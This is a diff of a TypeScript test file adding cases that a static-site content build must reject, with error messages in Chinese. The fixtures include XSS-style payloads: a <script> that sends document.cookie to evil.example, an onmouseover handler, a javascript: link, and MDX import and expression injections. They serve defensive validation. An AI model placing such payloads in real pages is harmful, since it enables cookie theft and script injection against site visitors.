@@ -13,10 +13,13 @@ const officer = minimal('content/officers/test-officer.md');
 const honor = minimal('content/honors/test-honor.md');
 const letter = minimal('content/letters/test-letter.md');
 const stats = minimal('content/stats/test-period.yaml');
+const activity = minimal('content/activities/test-activity.md');
+/** The minimal letter written as MDX, with `body` as its body. */
+const mdxLetter = (body: string) => `${letter.trimEnd()}\n\n${body}\n`;
 
 interface BadCase {
   name: string;
-  files?: Record<string, string>;
+  files?: Record<string, string | Buffer>;
   remove?: string[];
   /** The file the message must name, relative to the site folder. */
   file: string;
@@ -192,9 +195,112 @@ const CASES: BadCase[] = [
     code: 'config',
     says: '应为以 http:// 或 https:// 开头的完整网址',
   },
+  {
+    name: 'an import in an MDX body',
+    files: { 'content/letters/test-letter.mdx': mdxLetter("import Evil from '../../evil.js'") },
+    remove: ['content/letters/test-letter.md'],
+    file: 'content/letters/test-letter.mdx',
+    field: '正文',
+    code: 'unsafe-body',
+    says: '正文中不能使用 import 或 export',
+  },
+  {
+    name: 'a JavaScript expression in an MDX body',
+    files: { 'content/letters/mdx-letter.mdx': minimal('content/letters/mdx-letter.mdx').replace('这是一条', '这是 {globalThis.process.env.HOME} 一条') },
+    file: 'content/letters/mdx-letter.mdx',
+    field: '正文',
+    code: 'unsafe-body',
+    says: '正文中不能使用 { } 表达式（JavaScript）',
+  },
+  {
+    name: 'a component the project does not provide, in MDX',
+    files: { 'content/letters/mdx-letter.mdx': `${minimal('content/letters/mdx-letter.mdx')}\n<Tracker id="x" />\n` },
+    file: 'content/letters/mdx-letter.mdx',
+    code: 'unsafe-body',
+    says: '正文中不能使用组件 <Tracker>',
+  },
+  {
+    name: 'a <script> in a Markdown body',
+    files: { 'content/activities/test-activity.md': `${activity}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n` },
+    file: 'content/activities/test-activity.md',
+    code: 'unsafe-body',
+    says: '正文中不能使用 <script> 标签',
+  },
+  {
+    name: 'an event handler in raw HTML',
+    files: { 'content/activities/test-activity.md': `${activity}\n<span onmouseover="alert(1)">移过来</span>\n` },
+    file: 'content/activities/test-activity.md',
+    code: 'unsafe-body',
+    says: '不能带 onmouseover 属性',
+  },
+  {
+    name: 'a javascript: link',
+    files: { 'content/activities/test-activity.md': `${activity}\n[详情](javascript:alert(document.domain))\n` },
+    file: 'content/activities/test-activity.md',
+    code: 'unsafe-body',
+    says: '不安全',
+  },
+  {
+    name: 'a mobile number in a letter body',
+    files: { 'content/letters/test-letter.md': `${letter}\n写信人电话：13812345678\n` },
+    file: 'content/letters/test-letter.md',
+    field: '正文',
+    code: 'personal-data',
+    says: '含有手机号码（138****5678）',
+  },
+  {
+    name: 'a resident ID number in a field',
+    files: { 'content/letters/test-letter.md': letter.replace('from: 市民测试女士', 'from: 市民测试女士（身份证 11010519491231002X）') },
+    file: 'content/letters/test-letter.md',
+    field: 'from',
+    code: 'personal-data',
+    says: '含有身份证号',
+  },
+  {
+    name: 'an oversized image',
+    files: { 'content/officers/test-officer.png': Buffer.alloc(21 * 1024 * 1024, 1) },
+    file: 'content/officers/test-officer.md',
+    field: 'photo',
+    code: 'image-size',
+    says: '图片文件太大（21.0 MB，上限 20 MB）',
+  },
+  {
+    name: 'a file saved in GBK instead of UTF-8',
+    // 张军强 in GBK: bytes that are not valid UTF-8.
+    files: { 'content/officers/gbk-officer.md': Buffer.concat([Buffer.from('---\nname: '), Buffer.from([0xd5, 0xc5, 0xbe, 0xfc, 0xc7, 0xbf]), Buffer.from('\nrole: police\nunit: root-unit\nsummary: x\n---\n')]) },
+    file: 'content/officers/gbk-officer.md',
+    code: 'encoding',
+    says: '文件不是 UTF-8 编码',
+  },
+  {
+    name: 'a 10 MB body',
+    files: { 'content/activities/test-activity.md': `${activity}\n${'很长的正文。'.repeat(600_000)}\n` },
+    file: 'content/activities/test-activity.md',
+    code: 'unsafe-body',
+    says: '正文过长',
+  },
+  {
+    name: 'a list nested hundreds of levels deep',
+    files: { 'content/activities/test-activity.md': `${activity}\n${Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- 层`).join('\n')}\n` },
+    file: 'content/activities/test-activity.md',
+    code: 'unsafe-body',
+    says: '正文的列表或引用嵌套太深',
+  },
+  {
+    name: 'a placeholder left by npm run new',
+    files: { 'content/officers/test-officer.md': officer.replace('summary: 测试用人物。', 'summary: （请填写：一句话简介）') },
+    file: 'content/officers/test-officer.md',
+    field: 'summary',
+    code: 'placeholder',
+    says: '还没有填写：一句话简介',
+  },
 ];
 
 describe('a build with bad content', () => {
+  it('has at least 25 hostile or malformed fixtures', () => {
+    expect(CASES.length).toBeGreaterThanOrEqual(25);
+  });
+
   it.each(CASES)('fails on $name, naming the file and the field', (badCase) => {
     const build = buildFixture('minimal', { files: badCase.files ?? {}, remove: badCase.remove ?? [] });
     expect(build.status, build.output).not.toBe(0);
@@ -219,6 +325,12 @@ describe('a build with bad content', () => {
     expect(build.status).not.toBe(0);
     expect(build.output).toContain('内容有 4 个错误');
     for (const fragment of ['role', '缺少必填字段 summary', '“nobody” 不存在', '应为数字']) expect(build.output).toContain(fragment);
+  });
+
+  it('handles a file that starts with a byte-order mark (as Windows Notepad saves it)', () => {
+    const build = buildFixture('minimal', { files: { 'content/officers/test-officer.md': `\uFEFF${officer}`, 'content/stats/test-period.yaml': `\uFEFF${stats}` } });
+    expect(build.status, build.output).toBe(0);
+    expect(readFileSync(path.join(build.outDir, 'officers', 'test-officer', 'index.html'), 'utf8')).toContain('<h1>测试民警</h1>');
   });
 
   it('keeps the previous good site untouched when a later build fails', () => {
